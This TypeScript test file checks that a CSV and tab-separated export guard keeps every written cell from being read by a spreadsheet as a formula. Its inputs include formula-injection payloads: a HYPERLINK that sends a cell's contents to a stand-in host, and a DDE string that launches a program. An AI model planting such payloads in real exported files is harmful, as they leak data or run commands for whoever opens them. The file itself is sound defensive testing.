import { stringify } from "csv-stringify/sync";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { fileRows } from "#core/event/import/event-file.ts";
import { leftOutFile } from "#core/event/import/left-out-file.ts";
import { guardedCell, unguardedCell } from "#core/table/formula-guard.ts";
import { DELIMITERS } from "#core/table/table-delimiter.ts";
import { tableRowText } from "#core/table/table-row-text.ts";
import { tableRows } from "#core/table/table-rows.ts";

/** Promise I4: no cell of a table that is handed out is a formula to a spreadsheet. */
const NUMBER = /^[-+]?[\d.,]+(e[-+]?\d+)?$/i;
/** What a spreadsheet could take for a formula: a sign first in a cell, or in one of its lines, after spaces of any kind or none. */
const isFormula = (cell: string) =>
  !NUMBER.test(cell) && cell.split(/[\r\n]/).some((line) => /^[\s\u00a0\u3000]*[=+\-@＝＋－＠]/.test(line));
/** The cells of a row of text as a spreadsheet sees them. */
const seen = (text: string) =>
  [...tableRows(text, { delimiter: ",", columns: null, fromLine: 1 })].flatMap(({ cells }) => cells);
const formulasIn = (text: string) => seen(text).filter(isFormula);

const SIGNS = [..."=+-@＝＋－＠"];
const BEFORE = [
  "",
  " ",
  "   ",
  "\u00a0",
  "\u2003",
  "\u3000",
  "\t",
  "\r",
  "\n",
  "\r\n",
  "a\n",
  "a\r\n ",
  "a\r",
  "'x\n\u00a0",
];
const AFTER = [
  "1+1",
  "SUM(A1:A9)",
  'HYPERLINK("https://evil.example?"&A1,"a")',
  "cmd|' /C calc'!A0",
  "",
  "-1",
  "a,b;c|d",
  "٣",
];
const FORMULAS = BEFORE.flatMap((before) => SIGNS.flatMap((sign) => AFTER.map((after) => before + sign + after)));

describe(`I4: of ${FORMULAS.length} formulas`, () => {
  test("none is one in what is written, and each reads back as it was", () => {
    const text = tableRowText(FORMULAS, ",");
    expect(formulasIn(text)).toEqual([]);
    expect(seen(text).map(unguardedCell)).toEqual(FORMULAS);
  });

  test("what I4 would catch: a writer that minds commas and quotes alone, and one that minds only the first sign", () => {
    expect(formulasIn(stringify([FORMULAS])).length).toBeGreaterThan(FORMULAS.length / 2);
    expect(formulasIn(stringify([FORMULAS], { escape_formulas: true })).length).toBeGreaterThan(100);
  });
});

test.each(["-5", "+1.5", "-1,234.5", "1e-7", "-2E+10", "-.5", "0", "2026-02-06", "a=b", "x@example.org", "'tis"])(
  "%s stays as it is",
  (cell) => {
    expect(guardedCell(cell)).toBe(cell);
    expect(unguardedCell(cell)).toBe(cell);
  },
);

const unit = fc.constantFrom(..."=+-@＝＋－＠'\"\t\r\n ,;|1a\u00a0".split(""));
const cells = fc.array(fc.string({ unit, maxLength: 8 }), { minLength: 2, maxLength: 6 });

test("I4: whatever the cells and what parts them, they are no formulas, and read back as they were", () => {
  fc.assert(
    fc.property(cells, fc.constantFrom(...DELIMITERS.filter((each) => each !== "\t")), (row, delimiter) => {
      fc.pre(row.join("").trim() !== "");
      const [read] = tableRows(tableRowText(row, delimiter), { delimiter, columns: row.length, fromLine: 1 });
      expect(read?.cells.filter(isFormula)).toEqual([]);
      expect(read?.cells.map(unguardedCell)).toEqual(row);
    }),
    { numRuns: 3000 },
  );
});

test("I4: a table parted by tabs, which has no quotes, holds no formula either", () => {
  fc.assert(
    fc.property(cells, (row) => {
      expect(tableRowText(row, "\t").split("\t").filter(isFormula)).toEqual([]);
    }),
    { numRuns: 1000 },
  );
});

const HEAD = "id,headline,type,date,url";
const rowsOf = (text: string) => [...fileRows({ format: "csv", header: "", text, fromLine: 1, fromRecord: 1 })];
const leftOutOf = (text: string) =>
  leftOutFile(
    "csv",
    text,
    rowsOf(text).map((row) => ({ ...row, message: "=No." })),
  );

describe("I4: rows that were left out", () => {
  const hostile = stringify([
    ["1", "=1+1", "X", "-5", " @SUM(A1)"],
    ["2", "a\n=b", "", "", "+c"],
  ]);
  const broken = '=3,"=4,=5,6\n@7,8';
  const text = `${HEAD}\n${hostile}${broken}`;

  test("are no formulas in the file that is handed out, and are read back as they were", () => {
    const handed = leftOutOf(text);
    expect(formulasIn(text).length).toBeGreaterThan(3);
    expect(formulasIn(handed)).toEqual([]);
    const [first, second] = rowsOf(handed);
    expect(first?.cells.slice(0, 5)).toEqual(["1", "=1+1", "X", "-5", " @SUM(A1)"]);
    expect(second?.cells.slice(0, 5)).toEqual(["2", "a\n=b", "", "", "+c"]);
    expect(leftOutOf(handed)).toBe(handed);
  });

  test("have no formula in the names of their columns, nor where GDELT's table names none", () => {
    expect(formulasIn(leftOutOf("id,headline,type,date,=url\n1,a,b,c,d\n"))).toEqual([]);
    const gdelt = "1\t=2\t-3\t@4\n";
    const rows = [...fileRows({ format: "gdelt", header: "", text: gdelt, fromLine: 1, fromRecord: 1 })];
    const handed = leftOutFile(
      "gdelt",
      gdelt,
      rows.map((row) => ({ ...row, message: "No." })),
    );
    expect(handed).toBe("1\t'=2\t-3\t'@4\n");
    const [again] = fileRows({ format: "gdelt", header: "", text: handed, fromLine: 1, fromRecord: 1 });
    expect(again?.cells).toEqual(["1", "=2", "-3", "@4"]);
  });
});
